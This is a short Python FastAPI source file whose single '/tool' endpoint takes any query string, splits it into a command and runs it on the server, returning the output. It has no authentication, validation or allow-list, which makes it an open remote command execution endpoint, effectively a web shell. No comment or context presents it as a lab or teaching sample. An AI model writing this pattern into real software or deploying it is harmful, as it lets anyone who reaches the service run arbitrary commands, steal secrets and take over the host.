import asyncio, shlex
from fastapi import FastAPI
app = FastAPI()
@app.get('/tool')
async def tool(args: str):
    proc = await asyncio.create_subprocess_exec(*shlex.split(args), stdout=-1)
    out, _ = await proc.communicate()
    return out.decode()
